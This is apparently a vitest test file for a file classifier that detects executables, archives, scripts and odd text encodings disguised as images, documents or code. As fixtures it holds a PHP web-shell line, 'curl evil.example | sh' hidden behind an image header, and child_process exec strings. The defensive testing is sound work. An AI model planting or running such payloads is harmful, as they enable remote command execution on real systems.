import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { classifyFile, kindUnder } from "../../src/files/file-kind.ts";
import { aBmp, aGif, aPng } from "../fixtures/media.ts";

const bytes = (latin1: string) => Buffer.from(`${latin1}\x00\xfe\xff`, "latin1");
const ELF = bytes("\x7fELF\x02");
const ZIP = bytes(`PK\x03\x04${"\0".repeat(26)}payload.sh`);
/** Bytes that begin so and go on as compressed ones do: each value as often as any other. */
const compressed = (start: string) =>
  Buffer.concat([bytes(start), Buffer.from(Array.from({ length: 1024 }, (_, at) => at * 97))]);
const UNKNOWN = bytes("\x01\x02\x03");

describe("classifyFile", () => {
  it.each([
    ["LOGO.PNG", aPng(), "media"],
    ["logo.gif", aGif(), "media"],
    ["logo.bmp", aBmp(), "media"],
    ["letter.docx", compressed(`PK\x03\x04${"\0".repeat(26)}[Content_Types].xml`), "media"],
    ["letter.pdf", compressed("%PDF-1.7\n"), "media"],
    ["film.mp4", compressed("\0\0\0\x18ftypisom"), "media"],
    ["font.ttf", compressed("\0\x01\0\0"), "media"],
    ["logo.gif", aPng(), "binary"],
    ["letter.docx", ZIP, "archive"],
    ["logo.png", ELF, "executable"],
    ["logo.png", bytes("MZ\x90"), "executable"],
    ["logo.png", bytes("\xcf\xfa\xed\xfe"), "executable"],
    ["logo.png", bytes("#!/bin/sh\n"), "executable"],
    ["logo.png", ZIP, "archive"],
    ["logo.png", bytes("\x1f\x8b\x08"), "archive"],
    ["logo.png", UNKNOWN, "binary"],
    ["logo.png", bytes("\xff\xd8\xff\xe0"), "binary"],
    ["logo.png", Buffer.from("console.log('hidden')"), "text"],
    ["logo.svg", Buffer.from("<svg/>"), "text"],
    ["release.tar.gz", bytes("\x1f\x8b\x08"), "archive"],
    ["tool.exe", UNKNOWN, "executable"],
    ["module.wasm", bytes("\0asm\x01\0\0\0"), "executable"],
    ["module.pyc", UNKNOWN, "executable"],
    ["app.jar", ZIP, "archive"],
    ["data", UNKNOWN, "binary"],
    ["data.bin", UNKNOWN, "binary"],
    ["firmware.bin", ELF, "executable"],
    ["run", ELF, "executable"],
    ["empty", Buffer.alloc(0), "text"],
    ["notes", Buffer.from("plain text"), "text"],
    ["notes", Buffer.from("caf\xe9", "latin1"), "binary"],
    ["notes.ts", Buffer.from("caf\xe9", "latin1"), "text"],
    ["code.ts", bytes("const a = 1;"), "text"],
    ["code.py", ELF, "text"],
    ["Makefile", bytes("all:"), "text"],
    [".gitignore", bytes("x"), "text"],
    ["dir.ts/blob", UNKNOWN, "binary"],
  ] as const)("%s with its bytes (case %#) is %s", (path, content, expected) => {
    expect(classifyFile(path, content)).toBe(expected);
  });

  it.each([
    ["a PHP script", "<?PHP system($_GET['c']);", "binary"],
    ["PHP's short tag", "<?= system($_GET['c']) ?>", "binary"],
    ["a page's script", "<script>run()</script>", "binary"],
    ["an archive", `PK\x05\x06${"\0".repeat(18)}`, "binary"],
    ["nothing else", "\0\0", "media"],
  ] as const)("takes a whole picture with %s behind it for what it is", (_what, appended, expected) => {
    expect(classifyFile("logo.png", Buffer.concat([compressed("\x89PNG\r\n\x1a\n"), bytes(appended)]))).toBe(expected);
  });

  const pointerTo = (size: string, more = "") =>
    Buffer.from(`version https://git-lfs.github.com/spec/v1\n${more}oid sha256:${"4d".repeat(32)}\nsize ${size}\n`);
  it.each([
    ["model.bin", pointerTo("12345"), "lfs-pointer"],
    ["app.js", pointerTo("12345"), "lfs-pointer"],
    ["tool", pointerTo("1", `ext-0-foo sha256:${"ab".repeat(32)}\n`), "lfs-pointer"],
    ["logo.png", pointerTo("12345"), "media"],
    ["pointer.md", Buffer.concat([Buffer.from("An example:\n"), pointerTo("1")]), "text"],
    ["pointer.md", pointerTo("many"), "text"],
    ["pointer.md", pointerTo("1\nalert(1)"), "text"],
    ["app.js", pointerTo(`1${" ".repeat(1000)}\nalert(1)`), "lfs-pointer"],
    ["app.js", Buffer.from(`\n${pointerTo("1", "\n\n")}\n`), "lfs-pointer"],
    [
      "app.js",
      Buffer.from(String(pointerTo("1")).replace("https://git-lfs.github.com/spec/v1", "http://git-media.io/v/2")),
      "lfs-pointer",
    ],
    ["logo.png", pointerTo("1 \n\n"), "media"],
  ] as const)("takes %s for what it points to (case %#): %s", (path, content, expected) => {
    expect(classifyFile(path, content)).toBe(expected);
  });

  it.each([
    ["little-endian with its mark", Buffer.from("\ufeffeval(x)\n", "utf16le")],
    ["big-endian with its mark", Buffer.from("\ufeffeval(x)\n", "utf16le").swap16()],
    ["little-endian without a mark", Buffer.from("const a = eval(x);\n", "utf16le")],
    ["big-endian without a mark", Buffer.from("const a = eval(x);\n", "utf16le").swap16()],
    ["partly in another script", Buffer.from("const grüße = '你好'; // 你好\n", "utf16le")],
  ])("takes a code file in UTF-16 for opaque: %s", (_, content) => {
    for (const path of ["a.js", "notes.txt", "run.ps1"]) expect(classifyFile(path, content)).toBe("binary");
  });

  it.each([
    ["a NUL among letters", Buffer.from("const nul = '\0';\n")],
    ["a row of NULs", Buffer.from(`const a = 1;\n${"\0".repeat(200)}`)],
    ["nothing", Buffer.from("")],
  ])("takes a code file that holds %s for text", (_, content) => {
    expect(classifyFile("a.js", content)).toBe("text");
  });

  it("takes valid UTF-8 without NUL for text under any name", () => {
    const name = fc.constantFrom("a.png", "a.zip", "a.exe", "a", "a.ts", "a.docx");
    fc.assert(
      fc.property(name, fc.string({ unit: "grapheme" }), (path, text) => {
        fc.pre(!text.includes("\0") && text.isWellFormed());
        expect(classifyFile(path, Buffer.from(text))).toBe("text");
      }),
    );
  });

  it("takes media and pointers to such for executables when git says that they are", () => {
    expect([kindUnder("100755", "media"), kindUnder("100644", "media"), kindUnder("100755", "text")]).toEqual([
      "executable",
      "media",
      "text",
    ]);
  });

  it("takes no executable or archive for media, whatever it is called", () => {
    const extension = fc.constantFrom("png", "jpg", "gif", "ico", "mp4", "ttf", "pdf", "mp3", "svgz");
    const rest = fc.uint8Array({ maxLength: 40 });
    fc.assert(
      fc.property(extension, fc.constantFrom(ELF, ZIP, bytes("MZ"), bytes("#!")), rest, (ext, start, tail) => {
        expect(["executable", "archive"]).toContain(classifyFile(`a.${ext}`, Buffer.concat([start, tail])));
      }),
    );
  });
});

const kindOf = (path: string, text: string) => classifyFile(path, Buffer.from(text, "latin1"));

describe("a text that is to be read otherwise than it looks", () => {
  it.each([
    ["a.py", "# -*- coding: utf-7 -*-\n# +AAo-import os\n"],
    ["a.py", "#!/usr/bin/env python\n# vim: set fileencoding=shift_jis :\nx = 1\n"],
    ["a.py", "# coding: unicode_escape\n# \\nimport os\n"],
    ["a.py", "#\r# coding: utf7\rprint(1)\r"],
    ["tool", "#!/usr/bin/python3\n# coding: utf_16\nx = 1\n"],
    ["a.rb", "# encoding: Windows-31J\nputs 1\n"],
    ["a.pl", "use encoding 'shiftjis';\n"],
    ["a.php", "<?php declare(encoding='UTF-7'); ?>\n"],
    ["a.css", '@charset "Shift_JIS";\n'],
    ["a.xml", '<?xml version="1.0" encoding="UTF-7"?><a/>\n'],
    ["a.html", "<!doctype html><meta charset=iso-2022-jp><p>\n"],
    ["a.py", "# coding: of-our-own\n"],
  ])("is opaque, in %s (case %#)", (path, text) => {
    expect(kindOf(path, text)).toBe("binary");
  });

  it.each([
    ["a.py", "# -*- coding: utf-8 -*-\nx = 1\n"],
    ["a.py", "#!/usr/bin/python\n# -*- coding: UTF-8-unix -*-\n"],
    ["a.py", "# coding: latin-1\nname = 'caf\xe9'\n"],
    ["a.py", "# vim:fileencoding=iso-8859-15\n"],
    ["a.py", "x = 1\ny = 2\n# coding: utf-7 is no declaration on the third line\n"],
    ["a.rb", "# frozen_string_literal: true\n# encoding: us-ascii\n"],
    ["a.html", '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'],
    ["a.html", "<meta charset=windows-1252>\n"],
    ["a.xml", '<?xml version="1.0" encoding="ISO-8859-1"?><a/>\n'],
    ["a.js", "// coding: utf-7 means nothing here\n"],
    ["notes.md", "# coding: utf-7\n"],
  ])("is text where its letters are what they look like, in %s (case %#)", (path, text) => {
    expect(kindOf(path, text)).toBe("text");
  });

  it.each([
    ["shell behind BM", "a.bmp", "BM\n\0curl evil.example | sh\n"],
    ["JavaScript behind GIF89a", "a.gif", "GIF89a=1;require('child_process').exec('id')//\0"],
    ["a page behind RIFF", "a.webp", "RIFF\0\0\0\0WEBP<script>alert(1)</script>"],
    ["a long script behind a picture's start", "a.png", `\x89PNG\r\n\x1a\n\0${"execSync('id');\n".repeat(100)}`],
    ["a script behind a document's start", "a.pdf", `%PDF-1.7\n\xe2${"execSync('id');\n".repeat(100)}`],
  ])("takes for no media what is text for the most part: %s", (_, path, latin1) => {
    expect(classifyFile(path, Buffer.from(latin1, "latin1"))).toBe("binary");
  });
});
